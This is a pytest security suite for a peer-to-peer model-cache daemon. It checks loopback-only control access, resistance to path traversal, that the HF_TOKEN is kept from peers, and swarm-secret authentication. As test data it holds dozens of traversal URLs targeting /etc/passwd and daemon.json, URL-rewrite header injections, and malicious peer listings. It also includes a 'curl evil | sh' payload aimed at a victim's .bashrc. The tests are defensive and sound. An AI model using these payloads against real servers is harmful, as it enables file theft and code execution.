"""Security against real daemons: the control API stays on loopback behind its token, no
request reads or writes a path of its choosing, HF_TOKEN never reaches a peer, and the swarm
secret keeps outsiders from fetching and from the DHT."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from hffs.cache import HubCache
from hffs.runfiles import TOKEN_HEADER
from hffs.visibility import VisibilityStore
from swarm import portable
from swarm.chunking import MIN_CHUNK_SIZE
from swarm.wire import PeerAuth
from tests.hostile import FakePeer, manifest_of, wait_until
from tests.localhub import LocalHub
from tests.nodes import COMMIT, REPO, Node, wait_for
from tests.test_swarm import FILE, cached_bytes, use_hub

CHUNK = MIN_CHUNK_SIZE


def connect_fails(host: str, port: int) -> bool:
    with socket.socket() as s:
        s.settimeout(3)
        try:
            s.connect((host, port))
        except OSError:
            return True
    return False


def raw_get(host: str, port: int, target: str, headers: str = "", method: str = "GET") -> bytes:
    """One request with the target exactly as given: no client normalises ``..`` away."""
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(
            f"{method} {target} HTTP/1.1\r\nHost: x\r\n{headers}Connection: close\r\n\r\n".encode(
                "latin-1"
            )
        )
        chunks = []
        for _ in range(10_000):  # bounded: the server closes after one response
            block = s.recv(65536)
            if not block:
                break
            chunks.append(block)
    return b"".join(chunks)


def status_of(response: bytes) -> int:
    return int(response.split(b" ", 2)[1]) if response.startswith(b"HTTP/1.1 ") else 0


# -- the control API -------------------------------------------------------------------


def test_control_api_is_loopback_only_and_needs_the_token(nodes: Callable[[str], Node]) -> None:
    a = nodes("127.0.0.2")
    assert a.start().returncode == 0
    info = a.info()
    assert info["control_host"] == "127.0.0.1"
    assert (a.home / "daemon.json").stat().st_mode & 0o777 == 0o600
    port = info["control_port"]
    # bound to 127.0.0.1 alone: the daemon's own address and any other refuse it
    for host in ("127.0.0.2", "127.0.0.3"):
        assert connect_fails(host, port), f"control port open on {host}"
    base = f"http://127.0.0.1:{port}"
    routes = [
        ("GET", "/v1/status"),
        ("GET", f"/v1/providers?file_id={'a' * 64}"),
        ("GET", f"/v1/search?repo_id={REPO}&revision=main"),
        ("POST", "/v1/announce"),
        ("POST", "/v1/rescan"),
        ("POST", "/v1/transfer"),
        ("POST", "/v1/peers/refresh"),
        ("POST", "/v1/stop"),
        ("GET", "/nowhere"),
    ]
    with httpx.Client(timeout=10) as http:
        for method, path in routes:
            for headers in ({}, {TOKEN_HEADER: "guess"}, {TOKEN_HEADER: info["token"] + "x"}):
                r = http.request(method, base + path, headers=headers, json={})
                assert r.status_code == 403, (method, path, headers, r.status_code)
        assert http.get(base + "/v1/status", headers={TOKEN_HEADER: info["token"]}).is_success
        # the peer port, open to the network, serves none of the control routes
        for method, path in routes:
            r = http.request(method, a.url + path, json={})
            assert r.status_code in (404, 405), (method, path, r.status_code)
    assert a.client().status()["pid"] == info["pid"]  # /v1/stop above stopped nothing


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=10)


@pytest.fixture
def two_namespaces() -> Iterator[tuple[str, str]]:
    """Two network namespaces joined by a veth pair (10.213.7.1 <-> 10.213.7.2)."""
    tag = uuid.uuid4().hex[:6]
    ns = (f"hffs-a-{tag}", f"hffs-b-{tag}")
    if shutil.which("ip") is None:
        pytest.skip("no `ip` command")
    try:
        _ip("netns", "add", ns[0])
    except (subprocess.CalledProcessError, OSError) as exc:
        pytest.skip(f"cannot create a network namespace here: {exc}")
    try:
        _ip("netns", "add", ns[1])
        _ip("link", "add", f"va{tag}", "type", "veth", "peer", "name", f"vb{tag}")
        for i, (name, dev) in enumerate(zip(ns, (f"va{tag}", f"vb{tag}"), strict=True)):
            _ip("link", "set", dev, "netns", name)
            _ip("-n", name, "addr", "add", f"10.213.7.{i + 1}/24", "dev", dev)
            _ip("-n", name, "link", "set", dev, "up")
            _ip("-n", name, "link", "set", "lo", "up")
        yield ns
    finally:
        for name in ns:  # deleting a namespace deletes its end of the veth pair
            subprocess.run(["ip", "netns", "del", name], capture_output=True, timeout=10)


def test_control_api_unreachable_from_another_machine(
    two_namespaces: tuple[str, str], tmp_path: Path
) -> None:
    """A daemon on all interfaces of one namespace ("machine"): from the other, its peer
    port answers and its control port refuses."""
    here, there = two_namespaces
    port = 9009
    env = {
        **os.environ,
        "HFFS_HOME": str(tmp_path / "home"),
        "HF_HUB_CACHE": str(tmp_path / "hub"),
        "HF_HOME": str(tmp_path / "hf-home"),
        "HFFS_ENDPOINTS": "http://127.0.0.1:9",
        "HF_HUB_OFFLINE": "1",
    }

    def in_ns(name: str, *argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["ip", "netns", "exec", name, *argv],
            env=env,
            capture_output=True,
            text=True,
            timeout=30,
            stdin=subprocess.DEVNULL,
        )

    cli = [sys.executable, "-m", "hffs.cli"]
    r = in_ns(here, *cli, "daemon", "start", "--host", "0.0.0.0", "--port", str(port))
    assert r.returncode == 0, r.stderr
    try:
        control = json.loads((tmp_path / "home" / "daemon.json").read_text())["control_port"]
        probe = (
            "import socket,sys\n"
            "s=socket.socket(); s.settimeout(3)\n"
            "try:\n s.connect(('10.213.7.1', int(sys.argv[1]))); print('open')\n"
            "except OSError as e: print('refused', e)\n"
        )
        assert in_ns(there, sys.executable, "-c", probe, str(port)).stdout.startswith("open")
        got = in_ns(there, sys.executable, "-c", probe, str(control)).stdout
        assert got.startswith("refused"), got
        fetch = "import httpx,sys; print(httpx.get(sys.argv[1], timeout=5, trust_env=False).text)"
        ping = in_ns(there, sys.executable, "-c", fetch, f"http://10.213.7.1:{port}/v1/ping")
        assert '"hffs-peer"' in ping.stdout, ping.stderr
        # and from its own loopback the control API works
        assert in_ns(here, *cli, "daemon", "status").returncode == 0
    finally:
        in_ns(here, *cli, "daemon", "stop")


# -- paths -----------------------------------------------------------------------------


def tree(*roots: Path) -> dict[str, tuple[int, int]]:
    """Every file under roots (links not followed) with size and mtime, logs aside."""
    out = {}
    for root in roots:
        for p in root.rglob("*"):
            if p.name.startswith("daemon.log") or "manifests" in p.parts:
                continue
            st = p.lstat()
            out[str(p)] = (st.st_size, st.st_mtime_ns)
    return out


def test_no_request_reads_or_writes_a_path_of_its_choosing(
    nodes: Callable[[str], Node], tmp_path: Path
) -> None:
    a = nodes("127.0.0.2")
    data = os.urandom(2 * CHUNK + 7)
    fid = a.add_model_file(FILE, data)
    # A blob that is a symlink to a file outside the cache, as `model import --method ln`
    # makes it: served (by its id), because the cache chose it, not the request.
    outside = tmp_path / "outside"
    outside.mkdir()
    linked_data = os.urandom(CHUNK // 2)
    (outside / "weights.safetensors").write_bytes(linked_data)
    r = a.cli(
        "model",
        "import",
        str(outside / "weights.safetensors"),
        "org/linked",
        "--file",
        "weights.safetensors",
        "--method",
        "cp" if portable.enabled() else "ln",  # no ln under Windows rules
    )
    assert r.returncode == 0, r.stderr
    linked_id = hashlib.sha256(linked_data).hexdigest()
    blob = HubCache(a.hub).blob_path("model", "org/linked", linked_id)
    if not portable.enabled():
        assert blob.is_symlink() and not blob.resolve().is_relative_to(a.hub.resolve())
    # shared as if a public listing named it (imported files are not shared by default)
    VisibilityStore(a.home).record("model", "org/linked", "public", [linked_id])
    # Things no request may ever read: a file beside the imported one, and the daemon's own.
    marker = b"TOP-SECRET-" + uuid.uuid4().hex.encode()
    secret = outside / "secret.txt"
    secret.write_bytes(marker)
    assert a.start().returncode == 0
    token = a.info()["token"].encode()
    secret_id = hashlib.sha256(marker).hexdigest()
    daemon_json_id = hashlib.sha256((a.home / "daemon.json").read_bytes()).hexdigest()

    targets = [
        "/v1/blobs/../../../../../../etc/passwd",
        "/v1/blobs/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/v1/blobs/%2e%2e/%2e%2e/%2e%2e/daemon.json",
        "/v1/blobs/%2e%2e%2f%2e%2e%2fdaemon.json",
        f"/v1/blobs/{secret}",
        f"/v1/blobs/{'%2f'.join(str(secret).split('/'))}",
        "/v1/blobs//etc/passwd",
        f"/v1/blobs/{fid}/../../../../daemon.json",
        f"/v1/blobs/{fid}/..%2f..%2fdaemon.json",
        f"/v1/blobs/{fid}%00/../../daemon.json",
        f"/v1/blobs/{fid.upper()}",
        f"/v1/blobs/{secret_id}",  # a well-formed id of a file the store does not hold
        f"/v1/blobs/{daemon_json_id}",
        f"/v1/blobs/{secret_id}/manifest",
        f"/v1/blobs/{secret_id}/have",
        f"/v1/blobs/{fid}.state",
        f"/v1/blobs/{fid}/manifest/../../../daemon.json",
        "/v1/repos/model/..%2f..%2f..%2f..%2fetc/passwd",
        "/v1/repos/model/../../../../etc/main",
        f"/v1/repos/model/{'%2e%2e%2f' * 6}etc/main",
        "/v1/repos/model/org--linked/main",
        f"/v1/repos/model/{outside}/main",
        "/v1/repos/model/org/linked/..%2f..%2f..",
        "/../../../../etc/passwd",
        # the HF-endpoint paths a daemon answers on the same port
        "/org/linked/resolve/main/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/org/linked/resolve/main/../../../../../etc/passwd",
        "/org/linked/resolve/main/secret.txt",  # beside the linked blob's target
        f"/org/linked/resolve/main{secret}",
        f"/org/linked/resolve/{'%2e%2e%2f' * 8}{secret}/x",
        "/api/models/..%2f..%2f..%2fetc/revision/main",
        "/api/models/org/linked/tree/main/..%2f..%2f..%2f..",
        f"/api/models/org/linked/tree/main{outside}",
        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/daemon.json",
        "/config.json",
        "/partial",
        f"http://127.0.0.2/../../{secret}",
        "file:///etc/passwd",
        "*",
    ]
    headers = [
        "",
        "Range: bytes=0-\r\n",
        "Range: bytes=-1000000\r\n",
        f"X-Original-URL: /{secret}\r\nX-Rewrite-URL: /{secret}\r\n",
        f"X-Forwarded-Prefix: {outside}\r\n",
    ]
    before = tree(a.home, a.hub, outside)
    for target in targets:
        for extra in headers:
            resp = raw_get(a.host, a.port, target, extra)
            assert not 200 <= status_of(resp) < 300, (target, extra, resp[:200])
            for leaked in (marker, token, b"root:x:0:0", b'"swarm_secret"'):
                assert leaked not in resp, (target, extra)
    # nothing is written through any method
    for method in ("PUT", "POST", "DELETE", "PATCH"):
        for target in (f"/v1/blobs/{fid}", f"/v1/blobs/{secret_id}", "/v1/repos/model/org/x/main"):
            resp = raw_get(a.host, a.port, target, "Content-Length: 0\r\n", method)
            assert status_of(resp) in (404, 405), (method, target, resp[:200])
    assert tree(a.home, a.hub, outside) == before

    # what the cache holds is served, the symlinked blob included
    with httpx.Client(timeout=10) as http:
        assert http.get(f"{a.url}/v1/blobs/{fid}").content == data
        assert http.get(f"{a.url}/v1/blobs/{linked_id}").content == linked_data
        assert http.get(f"{a.url}/v1/blobs/{linked_id}/manifest").status_code == 200
    assert a.client().status()


def test_a_peer_listing_cannot_make_the_downloader_write_outside_the_cache(
    nodes: Callable[[str], Node], tmp_path: Path
) -> None:
    """With no endpoint answering, the revision comes from peers' listings: a listing whose
    paths climb out of the snapshot (or whose ids are not ids) is refused whole."""
    data = os.urandom(CHUNK)
    fid = hashlib.sha256(data).hexdigest()
    d = nodes("127.0.0.3")
    escape = tmp_path / "escaped"
    bad_entries = [
        {"path": "../../../../escaped", "file_id": fid, "size": len(data)},
        {"path": str(escape), "file_id": fid, "size": len(data)},
        {"path": "ok/../../../../escaped", "file_id": fid, "size": len(data)},
        {"path": "model.safetensors", "file_id": "../../../escaped", "size": len(data)},
    ]
    peer = FakePeer(
        "127.0.0.4",
        fid,
        data,
        manifest=manifest_of(fid, data),
        repo_path=f"/v1/repos/model/{REPO}/{COMMIT}",
    )
    with peer:
        assert d.cli("peer", "add", peer.host, "--port", str(peer.port)).returncode == 0
        for entry in bad_entries:
            peer.listing = {"commit": COMMIT, "fetched_at": 1.0, "files": [entry]}
            asked = sum(s.path == peer.repo_path for s in peer.seen)
            r = d.cli("model", "add", REPO, "--revision", COMMIT, timeout=60)
            assert r.returncode == 1 and "Traceback" not in r.stderr, (entry, r.stderr)
            assert sum(s.path == peer.repo_path for s in peer.seen) > asked, "not asked"
            assert peer.blob_requests == 0
            assert not escape.exists()
            assert not any(p.is_file() for p in tmp_path.rglob("escaped*"))
    assert not (d.hub / f"models--{REPO.replace('/', '--')}").exists()


# -- HF_TOKEN --------------------------------------------------------------------------


def test_hf_token_goes_upstream_never_to_a_peer(nodes: Callable[[str], Node]) -> None:
    token = "hf_" + uuid.uuid4().hex
    data = os.urandom(4 * CHUNK)
    fid = hashlib.sha256(data).hexdigest()
    with LocalHub(tokens=[token]) as hub:
        commit = hub.add_repo(REPO, {FILE: data})
        d = nodes("127.0.0.3")
        use_hub(d, hub)
        d.env["HF_TOKEN"] = token  # the daemon and the CLI both have it
        listing = {
            "commit": commit,
            "fetched_at": 1.0,
            "files": [{"path": FILE, "file_id": fid, "size": len(data)}],
        }
        peer = FakePeer(
            "127.0.0.4",
            fid,
            data,
            manifest=manifest_of(fid, data),
            have=[True, True, False, False],  # half from the peer, half from the hub
            listing=listing,
            repo_path=f"/v1/repos/model/{REPO}/main",
        )
        with peer:
            assert d.start("--swarm-secret", "swarm-only").returncode == 0
            assert d.cli("peer", "add", peer.host, "--port", str(peer.port)).returncode == 0
            r = d.cli("model", "add", REPO, timeout=60)
            assert r.returncode == 0, r.stderr
            assert cached_bytes(d) == data

            # again with the hub's API down: the revision comes from the peer's listing,
            # the bytes from the peer (all of them this time)
            assert d.cli("model", "rm", REPO).returncode == 0
            peer.have = [True] * 4
            hub.inject("5xx", count=None, api=True)
            r = d.cli("model", "add", REPO, timeout=60)
            assert r.returncode == 0, r.stderr
            assert cached_bytes(d) == data

        assert peer.blob_requests >= 2 and any(s.path == peer.repo_path for s in peer.seen)
        auths = set(peer.authorizations)
        assert all(token not in (a or "") for a in auths), auths
        # a signature per request (swarm.peer_auth), never the secret itself
        assert auths and all((a or "").startswith("HFFS-HMAC-SHA256 t=") for a in auths), auths
        assert all("swarm-only" not in (a or "") for a in auths), auths
        upstream = {a for _, a in hub.auth_log if a is not None}
        assert upstream == {f"Bearer {token}"}, upstream
        # ... but for the anonymous question whether the repo is public (hffs.trust)
        anonymous = {p for p, a in hub.auth_log if a is None}
        assert anonymous <= {f"/api/models/{REPO}"}, anonymous


# -- the swarm secret ---------------------------------------------------------------------


def test_swarm_secret_keeps_outsiders_out(nodes: Callable[[str], Node]) -> None:
    secret = "correct-horse-" + uuid.uuid4().hex
    data = os.urandom(3 * CHUNK)
    fid = hashlib.sha256(data).hexdigest()
    a, b = nodes("127.0.0.2"), nodes("127.0.0.3")
    a.add_model_file(FILE, data)
    assert a.start("--swarm-secret", secret).returncode == 0
    assert b.start("--swarm-secret", secret, "--bootstrap", f"{a.host}:{a.port}").returncode == 0
    cfg = b.home / "config.json"
    assert secret in cfg.read_text() and cfg.stat().st_mode & 0o777 == 0o600
    wait_for(lambda: (a.host, a.port) in b.client().find_providers(fid), 20, "B to find A")
    r = b.cli("model", "add", REPO, "--revision", COMMIT, timeout=60)
    assert r.returncode == 0, r.stderr
    assert cached_bytes(b) == data
    served = a.client().status()["bytes_up"]

    # Outsiders: no secret, or the wrong one. They bootstrap through A and save it as a peer.
    outsiders = [nodes("127.0.0.4"), nodes("127.0.0.5")]
    for node, extra in zip(outsiders, ([], ["--swarm-secret", "guess"]), strict=True):
        assert node.start(*extra, "--bootstrap", f"{a.host}:{a.port}").returncode == 0
        assert node.cli("peer", "add", a.host, "--port", str(a.port)).returncode == 0
    log = a.home / "daemon.log"
    assert wait_until(lambda: all(f"'{n.host}'" in log.read_text() for n in outsiders), 15), (
        "A did not drop the outsiders' datagrams"
    )
    for node in outsiders:
        assert node.client().status()["routing_size"] == 0  # the DHT never let them in
        assert node.client().find_providers(fid) == []  # neither the DHT nor A answered
        r = node.cli("model", "add", REPO, "--revision", COMMIT, timeout=60)
        assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
        assert not (node.hub / f"models--{REPO.replace('/', '--')}").exists()
    status = a.client().status()
    assert status["routing_size"] == 1  # B only
    assert status["bytes_up"] == served  # not a byte to the outsiders
    with httpx.Client(timeout=10) as http:
        for path in ("/v1/ping", f"/v1/blobs/{fid}", f"/v1/blobs/{fid}/have"):
            # the secret itself proves nothing: only a signature made with it does
            for headers in (
                {},
                {"Authorization": "Bearer guess"},
                {"Authorization": secret},
                {"Authorization": f"Bearer {secret}"},
            ):
                assert http.get(a.url + path, headers=headers).status_code == 403
            assert http.get(a.url + path, auth=PeerAuth("guess")).status_code == 403
            assert http.get(a.url + path, auth=PeerAuth(secret)).status_code == 200

    # the option is checked and can be removed again
    c = nodes("127.0.0.6")
    r = c.start("--swarm-secret", " spaced ")
    assert r.returncode == 1 and r.stderr.startswith("error:"), r.stderr
    assert c.start("--swarm-secret", "").returncode == 0
    assert '"swarm_secret": null' in (c.home / "config.json").read_text()


def _listing_peer(data: bytes, rev: str, commit: str, path: str, fetched_at: float) -> FakePeer:
    """A peer on 127.0.0.4 holding data and listing it as `path` of REPO at `commit`."""
    fid = hashlib.sha256(data).hexdigest()
    return FakePeer(
        "127.0.0.4",
        fid,
        data,
        manifest=manifest_of(fid, data),
        repo_path=f"/v1/repos/model/{REPO}/{rev}",
        listing={
            "commit": commit,
            "fetched_at": fetched_at,
            "files": [{"path": path, "file_id": fid, "size": len(data)}],
        },
    )


def _add_fails(d: Node, peer: FakePeer, *args: str) -> None:
    """`model add REPO` on d, with peer saved, fails with one line."""
    assert d.cli("peer", "add", peer.host, "--port", str(peer.port)).returncode == 0
    r = d.cli("model", "add", REPO, *args, timeout=60)
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr


def test_a_peer_listing_cannot_name_a_commit_outside_the_cache(
    nodes: Callable[[str], Node], tmp_path: Path
) -> None:
    """The hub is down; the only listing comes from a peer whose "commit" is a folder of
    the victim's: nothing there is replaced, linked or later claimed by uninstall."""
    data = b"curl evil | sh\n" * 100
    d = nodes("127.0.0.3")
    victim = tmp_path / "victim"
    victim.mkdir()
    bashrc = victim / ".bashrc"
    bashrc.write_text("mine\n")
    for commit in (str(victim), f"../../../../../../..{victim}"):
        peer = _listing_peer(data, "main", commit, ".bashrc", fetched_at=1e300)
        with peer:
            _add_fails(d, peer)
            assert any(s.path == peer.repo_path for s in peer.seen), "the peer was not asked"
            assert peer.blob_requests == 0
        assert d.cli("peer", "rm", peer.host, "--port", str(peer.port)).returncode == 0
    assert bashrc.read_text() == "mine\n" and not bashrc.is_symlink()
    assert sorted(p.name for p in victim.iterdir()) == [".bashrc"]
    managed = d.home / "managed.json"
    assert not managed.exists() or "victim" not in managed.read_text()
    assert not (d.hub / f"models--{REPO.replace('/', '--')}").exists()


def test_a_hub_refusal_is_final_peers_are_not_asked(
    nodes: Callable[[str], Node], hub: LocalHub
) -> None:
    """The hub answers 404 for the repo (or it is private): a peer's listing of it must
    not be used instead, whatever the peer holds."""
    data = os.urandom(CHUNK)
    d = nodes("127.0.0.3")
    use_hub(d, hub)
    peer = _listing_peer(data, COMMIT, COMMIT, "model.safetensors", fetched_at=1.0)
    with peer:
        _add_fails(d, peer, "--revision", COMMIT)
        assert not any(s.path == peer.repo_path for s in peer.seen)
        assert peer.blob_requests == 0
    assert not (d.hub / f"models--{REPO.replace('/', '--')}").exists()
